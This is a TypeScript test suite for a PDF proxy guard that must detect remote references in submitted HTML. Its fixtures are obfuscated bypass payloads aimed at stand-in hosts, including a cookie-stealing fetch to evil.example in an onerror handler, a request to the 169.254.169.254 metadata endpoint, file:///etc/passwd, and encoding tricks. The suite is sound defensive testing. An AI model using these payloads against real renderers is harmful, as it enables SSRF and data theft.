// The `/v1/pdf*` remote-reference guard as a table of documents: every kind of reference the design
// names, written with tricky casing, character references, whitespace and escapes, must be found;
// local references (data: URIs, fragments, relative paths) and text that merely mentions a URL pass.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decodeEntities, decodeJsonBytes, findRemoteInBody, findRemoteReference, isRemoteUrl, otherReadings } from '../../data-plane/proxy/pdf-guard.js';

/** [document, what the finding names (a substring of `where`), the URL it names (substring)] */
const REMOTE: Array<[string, string, string]> = [
  ['<img src="http://evil.example/x.png">', 'img src', 'http://evil.example/x.png'],
  ['<IMG SRC="HTTPS://EVIL.EXAMPLE/X.PNG">', 'img src', 'HTTPS://EVIL.EXAMPLE/X.PNG'],
  ["<img src='https://evil.example/a.png'>", 'img src', 'https://evil.example'],
  ['<img src=https://evil.example/a.png>', 'img src', 'https://evil.example'],
  ['<img\nsrc\n=\n"https://evil.example/a.png"\n>', 'img src', 'https://evil.example'],
  ['<img src="  \t https://evil.example/a.png">', 'img src', 'https://evil.example'],
  ['<img src="ht\ttp://evil.example/a.png">', 'img src', 'evil.example'],
  [`<img src="h${'\t'.repeat(10_000)}ttps://evil.example/a.png">`, 'img src', 'evil.example'],
  ['<img src="h&#116;tp://evil.example/">', 'img src', 'http://evil.example'],
  ['<img src="&#x68;&#x74;&#x74;&#x70;&#x3a;//evil.example/">', 'img src', 'http://evil.example'],
  ['<img src="https&colon;//evil.example/">', 'img src', 'https://evil.example'],
  ['<img src="https&#58//evil.example/">', 'img src', 'https://evil.example'],
  ['<img src="//evil.example/a.png">', 'img src', '//evil.example'],
  ['<img src="\\\\evil.example\\a.png">', 'img src', 'evil.example'],
  ['<img src="/\\evil.example/a.png">', 'img src', 'evil.example'],
  ['<img src="&sol;&sol;evil.example/a.png">', 'img src', '//evil.example'],
  ['<a href="https://example.com/">link</a>', 'a href', 'https://example.com'],
  ['<link rel="stylesheet" href="//cdn.example/x.css">', 'link href', '//cdn.example'],
  ['<img srcset="a.png 1x, https://evil.example/b.png 2x">', 'img srcset', 'https://evil.example/b.png'],
  ['<picture><source SRCSET="//evil.example/b.webp"></picture>', 'source srcset', '//evil.example'],
  ['<div style="background: url(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
  ['<div style="background:URL( \'//evil.example/bg.png\' )"></div>', 'style url()', '//evil.example'],
  ['<div style="background:u\\72l(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
  ['<div style="background:url(&quot;https://evil.example/bg.png&quot;)"></div>', 'style url()', 'https://evil.example'],
  ['<style>body { background: url("http://evil.example/bg.png") }</style>', 'style url()', 'http://evil.example'],
  ['<style>@import "https://evil.example/x.css";</style>', 'style @import', 'https://evil.example'],
  ["<style>@IMPORT '//evil.example/x.css';</style>", 'style @import', '//evil.example'],
  ['<style>@import url(https://evil.example/x.css);</style>', 'style url()', 'https://evil.example'],
  // A comment splits the at-keyword (no longer an @import for a browser); the URL is refused anyway.
  ['<style>@im/**/port "https://evil.example/x.css";</style>', 'style', 'https://evil.example'],
  ['<style>div { background-image: image-set("https://evil.example/a.png" 1x) }</style>', 'image-set', 'https://evil.example'],
  ['<style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style>', 'style url()', 'https://evil.example'],
  ['<meta http-equiv="refresh" content="0; url=https://evil.example/">', 'meta refresh', 'https://evil.example'],
  ['<META HTTP-EQUIV="Refresh" CONTENT="5;URL=\'//evil.example/\'">', 'meta refresh', '//evil.example'],
  ['<base href="https://evil.example/">', 'base href', 'https://evil.example'],
  ['<object data="https://evil.example/x.swf"></object>', 'object data', 'https://evil.example'],
  ['<embed src="//evil.example/x">', 'embed src', '//evil.example'],
  ['<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>', 'iframe src', '169.254.169.254'],
  ['<video poster="https://evil.example/p.jpg"></video>', 'video poster', 'https://evil.example'],
  ['<svg><image xlink:href="https://evil.example/i.png"/></svg>', 'image xlink:href', 'https://evil.example'],
  ['<svg><use href="//evil.example/s.svg#a"/></svg>', 'use href', '//evil.example'],
  ['<svg><style>rect { fill: url(&quot;https://evil.example/p.svg#x&quot;) }</style></svg>', 'style url()', 'https://evil.example'],
  ['<form action="https://evil.example/collect"><button>go</button></form>', 'form action', 'https://evil.example'],
  ['<iframe srcdoc="&lt;img src=&quot;https://evil.example/x.png&quot;&gt;"></iframe>', 'iframe srcdoc: img src', 'https://evil.example'],
  ['<img src="file:///etc/passwd">', 'img src', 'file:///etc/passwd'],
  ['<img src="ftp://evil.example/x">', 'img src', 'ftp://evil.example'],
  ['<script>fetch("https://evil.example/steal")</script>', 'script', 'https://evil.example'],
  ['<p>ok</p><img alt="x>y" src="https://evil.example/a.png">', 'img src', 'https://evil.example'],
  // A quote or comment opener inside a CSS string must not hide what follows it.
  ['<style>p::before { content: "\\"" } body { background: url(https://evil.example/a.png) }</style>', 'style url()', 'https://evil.example'],
  ['<style>p::before { content: "/*" } body { background: url(https://evil.example/a.png) } /* */</style>', 'style url()', 'https://evil.example'],
  ['<div style="background:u\\72 l(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
  ['<style>@import "\\68ttps://evil.example/x.css";</style>', 'style @import', 'https://evil.example'],
  // Issue 21, finding 5: before the fix each of the rows below was forwarded to the backend. A data:
  // document (HTML, SVG, XML, CSS) is loaded by the renderer and can reference more; an on* handler is
  // script; an SVG animation can write a URL into an attribute.
  ['<iframe src="data:text/html,<img src=https://evil.example/x.png>"></iframe>', 'iframe src data: img src', 'https://evil.example/x.png'],
  ['<iframe src="data:text/html,%3Cimg%20src%3D%22https%3A%2F%2Fevil.example%2Fx.png%22%3E"></iframe>', 'iframe src data: img src', 'https://evil.example/x.png'],
  [`<iframe src="data:text/html;base64,${Buffer.from('<img src="https://evil.example/b64.png">').toString('base64')}"></iframe>`, 'iframe src data: img src', 'https://evil.example/b64.png'],
  [`<object data="DATA:Text/HTML ; Charset=UTF-8 ;BASE64,${Buffer.from('<link rel=stylesheet href=//evil.example/c.css>').toString('base64')}"></object>`, 'object data data: link href', '//evil.example/c.css'],
  ['<embed src="d\ta\nta:text/html,<img src=//evil.example/tabs.png>">', 'embed src data: img src', '//evil.example/tabs.png'],
  ['<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'https://evil.example/i.png\'/></svg>">', 'img src data: image href', 'https://evil.example/i.png'],
  ['<img src="data:image/svg+xml;utf8,%3Csvg%3E%3Cstyle%3E@import \'https://evil.example/s.css\'%3C/style%3E%3C/svg%3E">', 'img src data: style @import', 'https://evil.example/s.css'],
  ['<img srcset="data:image/svg+xml,<svg><image%20href=\'//evil.example/set.png\'/></svg> 1x, b.png 2x">', 'img srcset data: image href', '//evil.example/set.png'],
  ['<link rel="stylesheet" href="data:text/css,@import url(https://evil.example/x.css);">', 'link href data: style url()', 'https://evil.example/x.css'],
  ['<style>@import "data:text/css,body{background:url(//evil.example/bg.png)}";</style>', 'style @import data: style url()', '//evil.example/bg.png'],
  ['<div style="background:url(\'data:image/svg+xml,<svg><image href=&quot;https://evil.example/d.png&quot;/></svg>\')"></div>', 'div style url() data: image href', 'https://evil.example/d.png'],
  ['<meta http-equiv="refresh" content="0; url=data:text/html,<img src=https://evil.example/m.png>">', 'meta refresh data: img src', 'https://evil.example/m.png'],
  ['<iframe src="data:application/xhtml+xml,<html xmlns=\'http://www.w3.org/1999/xhtml\'><img src=\'https://evil.example/x.png\'/></html>"></iframe>', 'data: img src', 'https://evil.example/x.png'],
  [`<iframe src="data:text/html;charset=utf-16le;base64,${Buffer.from('<img src="https://evil.example/u16.png">', 'utf16le').toString('base64')}"></iframe>`, 'data: img src', 'https://evil.example/u16.png'],
  ['<img src="x" onerror="fetch(\'https://evil.example/steal?\'+document.cookie)">', 'img onerror', 'https://evil.example/steal'],
  ['<body ONLOAD="location=\'//evil.example/go\'">', 'body onload', '//evil.example/go'],
  ['<svg onload="new Image().src=&quot;https&colon;//evil.example/p&quot;"></svg>', 'svg onload', 'https://evil.example/p'],
  ['<img src=x onerror="fetch(\'\\x68ttps://evil.example/hex\')">', 'img onerror', 'https://evil.example/hex'],
  ['<script>fetch("\\u0068ttps://evil.example/u")</script>', 'script', 'https://evil.example/u'],
  ['<script>fetch(\'//evil.example/rel\')</script>', 'script', '//evil.example/rel'],
  ['<svg><a><set attributeName="href" to="https://evil.example/set"/></a></svg>', 'set to', 'https://evil.example/set'],
  ['<svg><image><animate attributeName="href" values="a.png;https://evil.example/anim.png"/></image></svg>', 'animate values', 'https://evil.example/anim.png'],
  ['<a href="#" ping="/local https://evil.example/ping">x</a>', 'a ping', 'https://evil.example/ping'],
];

test('large hostile documents are read in linear time', () => {
  // Many openers without their closers: a backtracking reader would take minutes here.
  const n = 100_000;
  const docs = [
    `<div style="${'url('.repeat(n)}">`,
    `<style>${'@import "'.repeat(n)}</style>`,
    `<style>${'image-set('.repeat(n)}</style>`,
    `${'<style>'.repeat(n)}`,
    `<p a="${'x'.repeat(n * 10)}`,
    `<img src="a${' '.repeat(n * 10)}b">`,
  ];
  const started = performance.now();
  for (const d of docs) findRemoteReference(d);
  const ms = performance.now() - started;
  assert.ok(ms < 5000, `took ${ms.toFixed(0)} ms`);
});

const LOCAL: Array<[string, string]> = [
  ['<p>Hello, world</p>', 'plain text'],
  ['<img src="data:image/png;base64,iVBORw0KGgo=">', 'a data: URI'],
  ['<img src="DATA:image/svg+xml,%3Csvg%3E%3C/svg%3E">', 'a data: URI in capitals'],
  ['<img srcset="data:image/png;base64,AAAA 1x, b.png 2x">', 'a srcset of local images'],
  ['<a href="#section-2">jump</a>', 'a fragment'],
  ['<a href="chapter/2.html">next</a><img src="./img/a.png"><img src="../b.png"><img src="/c.png">', 'relative paths'],
  ['<a href="mailto:someone@example.com">mail</a><a href="tel:+441234">call</a>', 'mailto: and tel: links'],
  ['<div style="background: url(#grad)"></div><style>p { background: url(img/bg.png) } @import "print.css";</style>', 'local CSS references'],
  ['<p>See https://example.com for details, or //example.com.</p>', 'a URL in text is not a reference'],
  ['<!-- <img src="https://evil.example/a.png"> --><p>x</p>', 'a reference inside a comment'],
  ['<p title="https://example.com/">hover</p>', 'a URL in a non-URL attribute'],
  ['<meta http-equiv="refresh" content="30">', 'a meta refresh without a URL'],
  ['<meta http-equiv="refresh" content="0; url=page2.html">', 'a meta refresh to a relative page'],
  ['<script>// a comment\nconst x = 1 // another</script>', 'script line comments'],
  ['<textarea><img src="https://evil.example/a.png"></textarea>', 'markup inside a textarea is text'],
  ['', 'an empty document'],
  ['<iframe src="data:text/html,<p>only text, <a href=#top>a fragment</a></p>"></iframe>', 'a data: HTML document that references nothing remote'],
  ['<img src="data:image/svg+xml,<svg><rect fill=\'url(%23g)\'/></svg>">', 'a data: SVG with a local reference'],
  [`<img src="data:image/png;base64,${Buffer.from('<img src="https://not-markup.example/">').toString('base64')}">`, 'a data: image is not a document'],
  ['<a href="data:text/plain,<img src=https://evil.example/x>">text</a>', 'a data: text/plain is not a document'],
  ['<img src="a.png" onerror="this.remove()"><p onclick="alert(\'// hi\')">x</p>', 'on* handlers that fetch nothing'],
  ['<script>const pattern = "//"; // comment\nconst s = \'a // b\'</script>', 'slashes in script strings that are not URLs'],
  ['<svg><rect><animate attributeName="width" values="0;10;0"/></rect></svg>', 'an animation of a number'],
];

test('every remote reference is found, whatever its spelling', () => {
  for (const [doc, where, url] of REMOTE) {
    const found = findRemoteReference(doc);
    assert.ok(found, `not found in ${doc}`);
    assert.ok(found.where.includes(where), `${doc}: found at "${found.where}", expected "${where}"`);
    assert.ok(found.url.includes(url), `${doc}: named "${found.url}", expected it to include "${url}"`);
  }
});

test('local references and text pass', () => {
  for (const [doc, why] of LOCAL) assert.equal(findRemoteReference(doc), null, `${why}: ${doc}`);
});

test('isRemoteUrl: schemes, protocol-relative forms and whitespace', () => {
  const rows: Array<[string, boolean]> = [
    ['http://a', true],
    ['HTTPS://a', true],
    ['//a', true],
    ['\\\\a', true],
    [' \n//a', true],
    ['ja\tvascript:alert(1)', true],
    ['data:text/plain,hi', false],
    ['about:blank', false],
    ['#x', false],
    ['a/b', false],
    ['/a', false],
    ['?q=1', false],
    ['', false],
  ];
  for (const [u, want] of rows) assert.equal(isRemoteUrl(u), want, JSON.stringify(u));
});

test('character references decode with and without the semicolon', () => {
  assert.equal(decodeEntities('&#104;&#x74;&#X74;p&colon;&sol;&sol;a&amp;b&unknown;'), 'http://a&b&unknown;');
});

test('bodies: JSON string fields are read as HTML; other types as text', () => {
  const json = Buffer.from(JSON.stringify({ html: '<img src="https://evil.example/x.png">', options: { format: 'A4' } }));
  assert.equal(findRemoteInBody(json, 'application/json')?.url, 'https://evil.example/x.png');
  // JSON escapes (\/, \u003c) are decoded before reading.
  const escaped = Buffer.from('{"html":"\\u003cimg src=\\"https:\\/\\/evil.example\\/x.png\\"\\u003e"}');
  assert.equal(findRemoteInBody(escaped, 'application/json; charset=utf-8')?.url, 'https://evil.example/x.png');
  assert.equal(findRemoteInBody(Buffer.from('{"html":"<p>ok</p>","url":"https://not-html.example"}'), 'application/json'), null);
  assert.ok(findRemoteInBody(Buffer.from('<img src=//evil.example/x>'), 'text/html'));
  const multipart = Buffer.from('--b\r\nContent-Disposition: form-data; name="file"; filename="a.html"\r\nContent-Type: text/html\r\n\r\n<link href="https://evil.example/c.css" rel=stylesheet>\r\n--b--\r\n');
  assert.ok(findRemoteInBody(multipart, 'multipart/form-data; boundary=b'));
  // Malformed JSON is still read as text, so it cannot hide a reference.
  assert.ok(findRemoteInBody(Buffer.from('{"html": "<img src=\'https://evil.example/x\'>"'), 'application/json'));
});

test('bodies the guard cannot read to the end are refused, never passed unread', () => {
  // Before: a JSON string nested deeper than 64 levels, an HTML document in UTF-16 (with a BOM or a
  // declared charset, which renderers honour) and an <iframe srcdoc> nested more than three deep were
  // not read at all, and their remote references reached the backend.
  const remote = '<img src="https://evil.example/x.png">';
  let deep: unknown = { html: remote };
  for (let i = 0; i < 70; i++) deep = { a: [deep] };
  assert.ok(findRemoteInBody(Buffer.from(JSON.stringify(deep)), 'application/json'), 'JSON nested 140 levels');
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<html>${remote}</html>`, 'utf16le')]);
  assert.ok(findRemoteInBody(le, 'text/html'), 'UTF-16LE with a BOM');
  const be = Buffer.from(`\ufeff<html>${remote}</html>`, 'utf16le').swap16();
  assert.ok(findRemoteInBody(be, 'text/html'), 'UTF-16BE with a BOM');
  assert.ok(findRemoteInBody(Buffer.from(`<html>${remote}</html>`, 'utf16le'), 'text/html; charset=UTF-16LE'), 'declared UTF-16LE, no BOM');
  assert.ok(findRemoteInBody(Buffer.from(`<html>${remote}</html>`, 'utf16le'), 'text/html; charset="utf-16"'), 'declared UTF-16, no BOM');
  // ISO-2022-JP: `ESC ( B` (switch to ASCII) is invisible once decoded, so it can split a tag name.
  const jis = Buffer.from('<im\x1b(Bg src="https://evil.example/x.png">', 'latin1');
  assert.ok(findRemoteInBody(jis, 'text/html; charset=ISO-2022-JP'), 'declared ISO-2022-JP');
  assert.ok(findRemoteInBody(Buffer.concat([Buffer.from('<meta charset="iso-2022-jp">'), jis]), 'text/html'), 'ISO-2022-JP named by <meta charset>');
  // However many charsets a document declares, it is read again at most once per encoding that can
  // hide markup (no amplification of the work per byte).
  const many = ['shift_jis', 'utf-16le', 'UTF-16', 'big5', 'koi8-r', 'gbk', 'euc-kr', 'windows-1251', 'iso-2022-jp', 'utf-16be', 'bogus'];
  const declared = Buffer.from(`${many.map((c) => `<meta charset="${c}">`).join('')}<p>text</p>`);
  assert.equal(otherReadings(declared, 'text/html; charset=iso-2022-jp').length, 3);
  assert.equal(otherReadings(Buffer.from('<meta charset="shift_jis"><p>x</p>'), 'text/html; charset=windows-1252').length, 0);
  // Each level of srcdoc escapes the level inside it once more.
  let doc = remote;
  for (let i = 0; i < 6; i++) doc = `<iframe srcdoc="${doc.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`;
  assert.ok(findRemoteReference(doc), 'srcdoc nested six deep');
  // Still local: the same documents without a remote reference pass.
  assert.equal(findRemoteInBody(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<p>ok</p>', 'utf16le')]), 'text/html'), null);
  let flat: unknown = { html: '<p>ok</p>' };
  for (let i = 0; i < 70; i++) flat = { a: [flat] };
  assert.equal(findRemoteInBody(Buffer.from(JSON.stringify(flat)), 'application/json'), null);
});

test('JSON bodies are read as the backend reads them: UTF-16 and UTF-32, a BOM, NaN, no Content-Type', () => {
  // Issue 21, finding 5: before the fix a UTF-16 JSON body was read as UTF-8, failed to parse and
  // was scanned as text in which the markup did not show; Python's json.loads read it and the
  // backend rendered the remote reference. The other rows were bypasses of the same kind.
  const payload = JSON.stringify({ html: '<img src="https://evil.example/x.png">' });
  const escaped = '{"html":"\\u003cimg src=\\"https://evil.example/x.png\\"\\u003e"}';
  const bodies: Array<[string, Buffer, string]> = [
    ['UTF-16LE, no BOM', Buffer.from(payload, 'utf16le'), 'application/json'],
    ['UTF-16BE, no BOM', Buffer.from(payload, 'utf16le').swap16(), 'application/json'],
    ['UTF-16LE with a BOM', Buffer.from(`\ufeff${payload}`, 'utf16le'), 'application/json'],
    ['UTF-16BE with a BOM, escaped markup', Buffer.from(`\ufeff${escaped}`, 'utf16le').swap16(), 'application/json'],
    ['UTF-32LE', utf32(payload, true), 'application/json'],
    ['UTF-32BE with a BOM', utf32(`\ufeff${escaped}`, false), 'application/json'],
    ['UTF-8 with a BOM, escaped markup', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(escaped)]), 'application/json'],
    ['NaN (Python accepts it), escaped markup', Buffer.from(escaped.replace('{', '{"scale":NaN,')), 'application/json'],
    ['no Content-Type (FastAPI reads JSON), escaped markup', Buffer.from(escaped), ''],
    ['text/plain that is JSON, escaped markup', Buffer.from(escaped), 'text/plain'],
    ['UTF-16 JSON declared as text/plain', Buffer.from(escaped, 'utf16le'), 'text/plain'],
  ];
  for (const [what, body, type] of bodies) {
    const found = findRemoteInBody(body, type);
    assert.ok(found, `${what}: not found`);
    assert.equal(found.url, 'https://evil.example/x.png', what);
  }
  const local = JSON.stringify({ html: '<p>ok</p>', url: 'https://not-html.example/' });
  for (const body of [Buffer.from(local, 'utf16le'), utf32(local, false), Buffer.from(local.replace('{', '{"x":NaN,'))]) {
    assert.equal(findRemoteInBody(body, 'application/json'), null);
  }
  assert.equal(decodeJsonBytes(utf32('{"a":"\u{1f600}"}', true)), '{"a":"\u{1f600}"}');
});

test('data: documents nested deeper than three are refused unread', () => {
  let doc = '<p>local</p>';
  for (let i = 0; i < 5; i++) doc = `<iframe src="data:text/html;base64,${Buffer.from(doc).toString('base64')}"></iframe>`;
  assert.match(findRemoteReference(doc)?.where ?? '', /nested more than 3 deep/);
  let shallow = '<p>local</p>';
  for (let i = 0; i < 3; i++) shallow = `<iframe src="data:text/html;base64,${Buffer.from(shallow).toString('base64')}"></iframe>`;
  assert.equal(findRemoteReference(shallow), null);
});

function utf32(text: string, littleEndian: boolean): Buffer {
  const cps = [...text].map((c) => c.codePointAt(0)!);
  const b = Buffer.alloc(cps.length * 4);
  cps.forEach((cp, i) => (littleEndian ? b.writeUInt32LE(cp, i * 4) : b.writeUInt32BE(cp, i * 4)));
  return b;
}

test('the JSON and data: readers are linear on hostile bodies', () => {
  const n = 200_000;
  const bodies: Array<[Buffer, string]> = [
    [Buffer.from(`{"a":NaN,${'"\\u003c",'.repeat(n)}`), 'application/json'],
    [Buffer.from(`[${'"<p x=\\"'.repeat(n)}`), 'application/json'],
    [Buffer.from(`{"html":"<img src=\\"data:text/html,${'%3C'.repeat(n)}\\">"}`), 'application/json'],
    [Buffer.from(`<img onerror="${'\\x'.repeat(n)}" srcset="${'data:image/svg+xml,a '.repeat(n / 10)}">`), 'text/html'],
    [Buffer.from(`<script>${'"/'.repeat(n)}</script>`), 'text/html'],
  ];
  const started = performance.now();
  for (const [body, type] of bodies) findRemoteInBody(body, type);
  const ms = performance.now() - started;
  assert.ok(ms < 5000, `took ${ms.toFixed(0)} ms`);
});
